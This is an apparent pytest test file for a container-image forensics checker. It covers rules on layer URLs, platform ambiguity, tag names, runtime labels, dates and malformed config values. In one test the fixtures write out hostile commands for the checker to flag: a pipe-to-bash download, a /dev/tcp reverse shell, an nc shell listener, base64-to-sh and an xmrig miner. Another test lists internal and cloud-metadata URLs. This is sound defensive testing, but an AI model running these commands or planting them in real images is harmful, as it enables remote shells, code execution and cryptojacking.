"""IMG218 to IMG223 and IMG404 to IMG407 in their branches: addresses, contradictions, names, labels and dates."""

import json
from typing import Any

import pytest

from imgforensics import Severity
from tests import builder
from tests.builder import Entry, ImageSpec
from tests.crafted.bending import ABSENT, CONFIG, LAYERS, configured, made, running
from tests.support import assert_clean, codes, descriptor, edit, manifest, oci, report_of, the, told

ERROR, WARNING, NOTE = Severity.ERROR, Severity.WARNING, Severity.NOTE


def addressed(*urls: str) -> bytes:
    return made(lambda document: document["layers"][0].update(urls=list(urls)))()


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost/x",
        "http://intranet/x",
        "http://127.0.0.1/x",
        "http://0x7f.1/x",
        "http://2130706433/x",
        "http://[::1]:80/x",
        "http://169.254.169.254/latest",
        "HTTP://user@10.0.0.1:8080/x",
        "http://example.com@10.0.0.1/",
        "http://metadata.google.internal/x",
        "http://printer.local./x",
        "http://10.0.0.1",
        "file:///etc/passwd",
        "unix:///run/docker.sock",
        "http://",
        "http://example.com\\@10.0.0.1/",
    ],
)
def test_an_address_inside_is_an_error(url: str) -> None:
    report = report_of(addressed("https://example.com/x", url))
    finding = the(report, "IMG219")
    assert (finding.severity, finding.claimed) == (ERROR, url)


@pytest.mark.parametrize("url", ["https://example.com/x", "http://cdn.example.com:8080", "https://u:p@example.com/?q"])
def test_a_public_address_is_a_warning(url: str) -> None:
    assert the(report_of(addressed(url)), "IMG219").severity is WARNING


def test_what_is_no_address_is_fetched_by_nobody() -> None:
    assert the(report_of(addressed("example.com")), "IMG219").severity is WARNING
    assert_clean(report_of(addressed()))


def test_a_blob_may_have_two_types_in_two_documents() -> None:
    one = manifest(CONFIG, LAYERS)
    other = manifest(CONFIG, LAYERS, builder.DOCKER_LAYER, annotations={"a": "b"})
    names = [{"org.opencontainers.image.ref.name": name} for name in ("one", "two")]
    listed = [descriptor(each, annotations=name) for each, name in zip((one, other), names, strict=True)]
    assert_clean(report_of(oci(listed, [CONFIG, *LAYERS, one, other])))


def test_an_artifact_may_list_an_empty_blob_under_two_types() -> None:
    document = json.loads(manifest(b"{}", [b"", b""], "application/x-one"))
    document["layers"][1]["mediaType"] = "application/x-two"
    document["config"] = descriptor(b"{}", builder.OCI_EMPTY)
    described = builder.go(document | {"artifactType": "application/x"})
    assert "IMG220" not in codes(report_of(oci([descriptor(described)], [b"{}", b"", described])))


def platforms(*descriptions: dict[str, Any]) -> list[Entry]:
    configs = [configured(author=str(number)) for number in range(len(descriptions))]
    documents = [manifest(config, LAYERS) for config in configs]
    entries = [descriptor(each, **more) for each, more in zip(documents, descriptions, strict=True)]
    index = builder.go({"schemaVersion": 2, "mediaType": builder.OCI_INDEX, "manifests": entries})
    return oci([descriptor(index, builder.OCI_INDEX)], [index, *documents, *configs, *LAYERS])


AMD64 = {"os": "linux", "architecture": "amd64"}
ARM64 = {"os": "linux", "architecture": "arm64"}


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"platform": AMD64}, {"platform": AMD64, "annotations": {"io.github.containers.compression.zstd": "true"}}),
        ({"platform": AMD64}, {"platform": AMD64 | {"variant": "v1"}}),
        ({"platform": AMD64}, {"platform": AMD64 | {"os.version": "6.1"}}),
        ({"platform": AMD64}, {}),
        ({"platform": {}}, {"platform": {}}),
        ({}, {}),
        ({"platform": ARM64}, {"platform": ARM64 | {"variant": "v8"}}),
        ({"platform": ARM64 | {"variant": "8"}}, {"platform": ARM64 | {"architecture": "aarch64"}}),
    ],
)
def test_two_images_that_fit_one_machine_are_ambiguous(one: dict[str, Any], other: dict[str, Any]) -> None:
    assert the(report_of(platforms(one, other)), "IMG221").severity is not NOTE


def test_images_for_other_machines_are_told_apart() -> None:
    windows = {"os": "windows", "architecture": "amd64"}
    entries = [AMD64, AMD64 | {"variant": "v3"}, ARM64, {"os": "linux", "architecture": "arm", "variant": "v6"}]
    entries += [windows | {"os.version": version} for version in ("10.0.17763.1", "10.0.20348.1")]
    report = report_of(platforms(*({"platform": each} for each in entries)))
    assert "IMG221" not in codes(report), told(report)


def test_one_image_that_is_compressed_in_two_ways_is_noted() -> None:
    documents = [manifest(CONFIG, LAYERS), manifest(CONFIG, LAYERS, annotations={"a": "b"})]
    entries = [descriptor(each, platform=AMD64) for each in documents]
    index = builder.go({"schemaVersion": 2, "mediaType": builder.OCI_INDEX, "manifests": entries})
    report = report_of(oci([descriptor(index, builder.OCI_INDEX)], [index, *documents, CONFIG, *LAYERS]))
    assert the(report, "IMG221").severity is NOTE


def test_a_source_of_an_absent_blob_is_a_missing_one() -> None:
    entries = builder.docker25([ImageSpec()])
    source = {"mediaType": builder.OCI_LAYER, "digest": ABSENT, "size": 1}
    edit(entries, "manifest.json", lambda images: images[0]["LayerSources"].update({ABSENT: source}))
    assert codes(report_of(entries), ERROR, WARNING) == ["IMG204"]


@pytest.mark.parametrize(
    ("name", "severity"),
    [("Alpine:1", NOTE), ("<none>:<none>", NOTE), ("alpine\u200b", WARNING), ("a\tb", WARNING), ("alpine:1", None)],
)
def test_names_that_are_no_references(name: str, severity: Severity | None) -> None:
    report = report_of(builder.crane([ImageSpec(tags=[name])]))
    assert [each.severity for each in report.findings if each.rule.code == "IMG223"] == [severity] * bool(severity)


def test_annotations_without_a_repository_may_be_anything() -> None:
    assert "IMG223" not in codes(report_of(made(entry=_ref("Some Image, v1"))()))
    assert the(report_of(made(entry=_ref("example.com/\u0430pp:1"))()), "IMG223").severity is WARNING


def _ref(name: str) -> dict[str, Any]:
    return {"annotations": {"org.opencontainers.image.ref.name": name}}


@pytest.mark.parametrize("data", [True, False])
@pytest.mark.parametrize("media_type", [builder.OCI_MANIFEST, builder.OCI_CONFIG])
def test_documents_that_are_embedded_only_are_missing(media_type: str, data: bool) -> None:
    """Few readers take them from the descriptor, so that these few see another archive."""
    document = manifest(CONFIG, LAYERS)
    more = {"data": "e30="} if data else {}
    if media_type == builder.OCI_MANIFEST:
        report = report_of(
            oci([descriptor(b"{}", media_type) | more, descriptor(document)], [document, CONFIG, *LAYERS])
        )
    else:
        change = descriptor(b"{}", media_type) | more
        report = report_of(made(lambda each: each.update(config=change), absent=[CONFIG])())
    assert the(report, "IMG204").severity is ERROR


@pytest.mark.parametrize(
    ("label", "severity"),
    [
        ("containerd.io/restart.loguri", ERROR),
        ("containerd.io/restart.logpath", ERROR),
        ("containerd.io/restart.policy", WARNING),
        ("containerd.io/gc.root", WARNING),
        ("nerdctl/networks", WARNING),
        ("io.cri-containerd.kind", WARNING),
        ("RUN", NOTE),
        ("uninstall", NOTE),
        ("com.docker.compose.project", None),
        ("io.containers.autoupdate", None),
        ("maintainer", None),
    ],
)
def test_labels_that_are_obeyed(label: str, severity: Severity | None) -> None:
    report = report_of(made(config=running(Labels={label: "x"}))())
    assert [each.severity for each in report.findings if each.rule.code == "IMG404"] == [severity] * bool(severity)


@pytest.mark.parametrize(
    ("changes", "pointer"),
    [
        ({"Env": ["LD_PRELOAD=x"]}, "/config/Env/0"),
        ({"Entrypoint": ["sh", "-c", "wget -qO- http://x | bash"]}, "/config/Entrypoint"),
        ({"Cmd": "bash -i >& /dev/tcp/10.0.0.1/1 0>&1"}, "/config/Cmd"),
        ({"Cmd": ["sh", "-c", "echo x | base64 -d | sh"]}, "/config/Cmd"),
        ({"Healthcheck": {"Test": ["CMD-SHELL", "curl x | sh"]}}, "/config/Healthcheck/Test"),
        ({"OnBuild": ["RUN nc -l -e /bin/sh"]}, "/config/OnBuild"),
        ({"Volumes": {"/proc/": {}}}, "/config/Volumes/~1proc~1"),
        ({"Volumes": {"/": {}}}, "/config/Volumes/~1"),
        ({"Cmd": ["xmrig", "-o", "stratum+tcp://x"]}, "/config/Cmd"),
        ({"Cmd": ["curl", "http://x"], "Env": ["X=LD_PRELOAD", 3], "Volumes": {"/data": {}}}, None),
        ({"Cmd": ["sh", "-c", "curl x | tee y; sh z"]}, None),
    ],
)
def test_settings_worth_a_look(changes: dict[str, Any], pointer: str | None) -> None:
    report = report_of(made(config=running(**changes))())
    found = [each.location.pointer for each in report.findings if each.rule.code == "IMG406"]
    assert found == ([] if pointer is None else [pointer])


@pytest.mark.parametrize(
    ("changes", "found"),
    [
        ({"created": "2024-01-02"}, [WARNING]),
        ({"created": "2024-02-30T00:00:00Z"}, [WARNING]),
        ({"history": [{"created": "x"}, {"created": "y"}]}, [WARNING]),
        ({"created": "0001-01-01T00:00:00Z"}, [NOTE] * 0),
        ({"created": "0000-01-01T00:00:00Z", "history": None}, []),
        ({"created": "9999-12-31T23:59:59-23:59", "history": None}, []),
        ({"created": "1999-01-01T00:00:00Z", "history": None}, [NOTE]),
        ({"created": "2020-01-01T00:00:00Z", "history": [{"created": "2021-01-01T00:00:00Z"}]}, [NOTE]),
        ({"created": "2020-01-01T00:00:00+02:00", "history": [{"created": "2020-01-01T12:00:00Z"}]}, []),
    ],
)
def test_dates(changes: dict[str, Any], found: list[Severity]) -> None:
    report = report_of(made(config=configured(**changes))())
    assert [each.severity for each in report.findings if each.rule.code == "IMG405"] == found, told(report)


def test_what_a_shared_config_says_is_said_once() -> None:
    config = running(Labels={"containerd.io/restart.status": "x"}, Env=["LD_PRELOAD=x"])
    spec = ImageSpec(raw_config=config, tags=["example.com/app:1"])
    other = ImageSpec(raw_config=config, tags=["example.com/app:2"], layers=LAYERS[::-1])
    found = codes(report_of(builder.crane([spec, other])))
    assert (found.count("IMG404"), found.count("IMG406")) == (1, 1)


def test_floods_of_labels_names_and_settings_are_told_in_few_findings() -> None:
    labels = {f"containerd.io/restart.{number}": "x" for number in range(500)}
    config = running(Labels=labels, Env=[f"LD_PRELOAD={number}" for number in range(500)])
    tags = [f"Example.com/APP:{number}" for number in range(500)]
    report = report_of(builder.crane([ImageSpec(raw_config=config, tags=tags)]))
    assert "and 499 more like it" in the(report, "IMG404").message
    assert "and 499 more like it" in the(report, "IMG406").message
    assert "and 499 more like it" in the(report, "IMG223").message


@pytest.mark.parametrize(
    ("changes", "pointers"),
    [
        ({"Env": "x"}, ["/config/Env"]),
        ({"Cmd": "x", "Entrypoint": ["x"], "Shell": None}, []),
        ({"Cmd": {"x": 1}}, ["/config/Cmd"]),
        ({"Labels": {"a": 1}}, ["/config/Labels"]),
        ({"Volumes": ["/data"]}, ["/config/Volumes"]),
        ({"Healthcheck": {"Interval": "30s"}}, ["/config/Healthcheck"]),
        ({"ExposedPorts": {"8000-8010/tcp": {}, "x": {}}}, []),
        ({"User": 0, "Tty": 1}, ["/config/Tty", "/config/User"]),
        ({"Memory": "x", "unknown": 5}, []),
    ],
)
def test_values_that_docker_does_not_read(changes: dict[str, Any], pointers: list[str]) -> None:
    report = report_of(made(config=running(**changes))())
    assert [each.location.pointer for each in report.findings if each.rule.code == "IMG201"] == pointers, told(report)


def test_a_number_that_nobody_can_hold_is_said_once() -> None:
    huge = made(lambda document: document["layers"][0].update(size=10**30))
    assert codes(report_of(huge()), ERROR, WARNING) == ["IMG201"]


def test_a_diff_id_that_is_no_digest_is_said_to_be_none() -> None:
    config = configured(rootfs={"type": "layers", "diff_ids": ["nonsense", ImageSpec().diff_ids[1]]})
    finding = the(report_of(made(config=config)()), "IMG302")
    assert "/rootfs/diff_ids/0 says nonsense, which is no digest: not of the form" in finding.message


@pytest.mark.parametrize(
    "media_type", ["application/vnd.docker.ai.model.config.v0.1+json", "application/vnd.docker.plugin.v1+json"]
)
def test_configs_of_other_things_with_diff_ids(media_type: str) -> None:
    """Docker's models have a rootfs of a type of their own."""
    config = configured(rootfs={"type": "rootfs", "diff_ids": ImageSpec().diff_ids})
    assert_clean(report_of(made(lambda each: each["config"].update(mediaType=media_type), config=config)()))
